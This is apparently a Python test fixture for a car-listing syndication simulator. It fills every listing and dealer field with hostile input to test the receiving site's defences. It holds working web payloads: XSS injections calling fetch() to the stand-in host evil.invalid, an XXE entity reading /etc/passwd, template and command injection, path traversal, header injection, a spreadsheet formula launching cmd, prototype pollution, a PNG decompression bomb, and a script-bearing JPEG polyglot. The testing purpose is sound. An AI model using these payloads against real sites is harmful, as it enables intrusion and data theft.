"""A stock in which every text tries to be something else: markup, script, address, file, command.

Each attack meets each field once in as many cars as there are attacks; the cars after those have
true words and numbers, so that there is something to choose from. What runs gives itself away: it
sets ``window.pwned``, opens a dialog and asks a host that cannot exist.
"""

import struct
import zlib
from itertools import cycle, islice
from typing import Any

from syndicator.simulator.compose import Entry
from syndicator.simulator.dealers import Dealer
from syndicator.simulator.messages import Response
from syndicator.simulator.stock import Stock

Json = dict[str, Any]

EVIL = "https://evil.invalid/"
STRIKE = f"window.pwned=1;alert('pwned');fetch('{EVIL}x')"
LONG_WORD = 10_000  # letters
TOWER = 300  # marks on one letter
ABSURD_PX = 60_000

ATTACKS: tuple[str, ...] = (
    f"<script>{STRIKE}</script>",
    f"<script src={EVIL}x.js></script>",
    f'<img src=x onerror="{STRIKE}">',
    f'" onmouseover="{STRIKE}" autofocus onfocus="{STRIKE}" x="',
    f"' onmouseover='window.pwned=1' autofocus onfocus='fetch(`{EVIL}`)' x='",
    "x onmouseover=window.pwned=1 autofocus onfocus=alert(1)",
    f"</script><script>{STRIKE}</script>",
    f'</title></head><body onload="{STRIKE}">',
    f'</style></template></noscript></textarea></select></dialog><svg onload="{STRIKE}">',
    f"<!-- <script> --!><script>{STRIKE}</script>",
    f']]><script xmlns="http://www.w3.org/1999/xhtml">{STRIKE}</script><![CDATA[',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f "&e;&e;">]>&f;',
    f'<?xml-stylesheet href="{EVIL}x.css"?><?php system("id") ?><% system("id") %>',
    f'<base href="{EVIL}"><meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<iframe src="javascript:{STRIKE}" srcdoc="<script>top.pwned=1</script>"></iframe>',
    f"<style>@import '{EVIL}x.css';*{{background:url({EVIL}x)}}</style>",
    f"red;}}*{{position:fixed;inset:0;background:url({EVIL}x)}}/*",
    "<form id=filters><input name=elements></form><a id=stock name=stock>x</a>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;&#60;img src=x onerror=window.pwned=1&#62;&#0;",
    f'<svg><style><img src="</style><img src=x onerror={STRIKE}>"></svg>',
    "{{7*7}}{% include '/etc/passwd' %}{{self.__init__.__globals__}}{#",
    "${window.pwned=1}`${alert(1)}`#{7*7}<%=7*7%>",
    "%s%n%(x)s {0} {filter} {car} {0.__class__} $1 $& $' $` \\1",
    f"javascript:{STRIKE}",
    f" \x01JaVa\tScr\nipt:{STRIKE}//%0a",
    f"data:text/html,<script>{STRIKE}</script>",
    "//evil.invalid/x",
    "https:\\\\evil.invalid\\x",
    "https://www.okasie.example@evil.invalid/x",
    "https://evil.invalid:port/[::1",
    "\u202e00.991 €\u2066\u2067\u200b\u200e\u200f\ufeff\u00ad\u2028\u2029\u2069",
    "a\x00b\x01\x08\x0b\x0c\x1f\x7f\x85\ufffe\uffffz",
    "half \ud83d of \udc00 a \udfff character",
    "\x1b[31m\x1b[2J\x1b]0;pwned\x07\x9b31mred",
    f"x\r\nSet-Cookie: pwned=1\r\n\r\n<script>{STRIKE}</script>",
    f"x\n/* {EVIL}:splat 301!\n/*\n  Content-Security-Policy: default-src *",
    "__proto__",
    "constructor",
    "../../../../../../etc/cron.d/pwned",
    "..\\..\\pwned%2e%2e%2f%00.html",
    "CON",
    "_redirects",
    "_headers",
    ".htaccess",
    "index.html",
    "e" + "\u0301" * TOWER,
    "W" * LONG_WORD,
    f'=HYPERLINK("{EVIL}";"x")\t@SUM(1)|+1+cmd|\' /C calc\'!A0',
)
NUMBERS: tuple[Any, ...] = (
    -1, 0, 10**30, 2**63, 1e308, 0.1 + 0.2, "1e400", "NaN", "19.995,00", True, [], {"$gt": 0},
    ATTACKS[0], ATTACKS[3],
)  # fmt: skip
DATES: tuple[Any, ...] = (
    "0000-00-00T00:00:00Z", "9999-12-31T23:59:59.999Z", "2026-02-30", -1, 10**30, "1582-10",
    "1900-01", "2100-12", ATTACKS[0], ATTACKS[3],
)  # fmt: skip

TEXTS = (
    "title", "brand", "model", "variant", "slug", "listingUrl", "externalReference",
    "externalProvider", "fuelType", "transmission", "bodyType", "driveType", "engine", "color",
    "paintType", "interiorColor", "interiorMaterial", "co2Type", "emissionClass", "vin",
    "carPassUrl", "vehicleType", "currency", "mainImageUrl",
)  # fmt: skip
WORDS = ("brand", "fuelType", "transmission", "bodyType", "driveType", "currency", "vehicleType")
NUMERIC = (
    "price", "year", "mileage", "gears", "powerKw", "doors", "seats", "weight", "co2Emission",
    "fuelConsumption", "previousOwners", "warrantyMonths", "serviceHistory", "warranty",
)  # fmt: skip
DATED = ("createdAt", "soldAt", "firstRegistration")
PLACE_TEXTS = ("postalCode", "city", "province")
DEALER_TEXTS = (
    "companyName", "fullName", "displayName", "email", "phone", "address", "postalCode", "city",
    "province", "logoUrl", "locationCode",
)  # fmt: skip
ODD_EVERY = 3  # every how manieth car has absurd numbers and dates; the others show theirs
FEATURES = 12  # attacks among the equipment of a car
ADDRESSES = 5  # attacks among the photos of a car


def arm(stock: Stock) -> None:
    """Make all dealers and all listings of a stock hostile."""
    for number, dealer in enumerate(tuple(stock.dealers.values())):
        stock.dealers[dealer.id] = _seller(number, dealer)
    stock.twist = twist


def attack(number: int, field: int) -> str:
    """What the n-th car says in its n-th field."""
    return ATTACKS[(number + field * 5) % len(ATTACKS)]


def twist(entry: Entry, listing: Json) -> Json:
    """The listing with every text replaced; ids of dealers, status and ``updatedAt`` stay true."""
    number = entry.number
    texts = _texts(number, TEXTS)
    is_believable = number // len(ATTACKS) % 2 == 1
    if number % 2 and attack(number // 2, 0).isprintable():  # else the record would be lost
        texts["id"] = f"{entry.id[:8]}{attack(number // 2, 0)[:80]}"
    return {
        **listing,
        **texts,
        **({name: listing[name] for name in WORDS} if is_believable else {}),
        **(_absurd(number) if number % ODD_EVERY == 0 and not is_believable else {}),
        "description": _description(number),
        "conditionTags": list(islice(_from(number), 3)),
        "features": _features(number),
        "images": _images(number, listing["images"]),
        "location": listing["location"] | _texts(number, PLACE_TEXTS),
        "dealer": listing["dealer"] | _texts(number, DEALER_TEXTS) | {"metadata": _free(number)},
        "specifications": _free(number),
        "__proto__": {"pwned": True},
        "constructor": {"prototype": {"pwned": True}},
    }


def disguise(car: str, number: int, photo: Response) -> Response:
    """What is served as the n-th photo of a car: itself, or something else by the name of JPEG."""
    match (int(car[:4], 16) + number) % 6:
        case 1:
            svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{STRIKE}"/>'
            return _served(photo, svg.encode(), "image/svg+xml")
        case 2:
            return _served(photo, f"<script>{STRIKE}</script>".encode(), "text/html")
        case 3:
            return _served(photo, _bomb(), "image/png")
        case 4:
            return _served(photo, photo.body[: len(photo.body) // 2])
        case 5:
            return _served(photo, _talking(photo.body))
        case _:
            return photo


def _seller(number: int, dealer: Dealer) -> Dealer:
    """A dealer who attacks in each field, in another order than his cars do."""
    profile = dealer.profile | _texts(7 * number, DEALER_TEXTS) | {"metadata": _free(number)}
    if profile["parent"]:
        names = ("locationCode", "companyName", "fullName", "displayName")
        profile["parent"] = profile["parent"] | _texts(7 * number, names)
    return dealer._replace(profile=profile)


def _texts(number: int, names: tuple[str, ...]) -> Json:
    return {name: attack(number, at) for at, name in enumerate(names)}


def _from(number: int) -> "islice[str]":
    """All attacks, one after the other, beginning with another one for each car."""
    return islice(cycle(ATTACKS), number % len(ATTACKS), number % len(ATTACKS) + len(ATTACKS))


def _absurd(number: int) -> Json:
    turn = number // ODD_EVERY
    numbers = {name: NUMBERS[(turn + at) % len(NUMBERS)] for at, name in enumerate(NUMERIC)}
    return numbers | {name: DATES[(turn + at) % len(DATES)] for at, name in enumerate(DATED)}


def _description(number: int) -> str:
    """One attack alone, or all of them."""
    return attack(number, 0) if number % 2 else "\n".join(_from(number))


def _features(number: int) -> list[Json]:
    return [
        {"category": ("comfort", text, "__proto__")[at % 3], "name": text, "__proto__": text}
        for at, text in enumerate(islice(_from(number), FEATURES))
    ]


def _images(number: int, images: list[Json]) -> list[Json]:
    wrong = [{"url": text, "position": text} for text in islice(_from(number), ADDRESSES)]
    return [*images, *wrong, {"url": None}, {}, None]  # type: ignore[list-item]  # as it may come


def _free(number: int) -> Json:
    """Members whose names nobody foresaw."""
    return {"website": attack(number, 1), "__proto__": {"pwned": True}, attack(number, 2): number}


def _served(photo: Response, body: bytes, media_type: str = "image/jpeg") -> Response:
    return Response(
        status=photo.status, body=body, headers={**photo.headers, "Content-Type": media_type}
    )


def _bomb() -> bytes:
    """The head of a picture that would take 10 GB, and no more."""
    head = struct.pack(">IIBBBBB", ABSURD_PX, ABSURD_PX, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(4096))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )


def _talking(jpeg: bytes) -> bytes:
    """The same picture, with a page in its comment and behind its end."""
    page = f"<!DOCTYPE html><script>{STRIKE}</script>".encode()
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(page) + 2) + page + jpeg[2:] + page
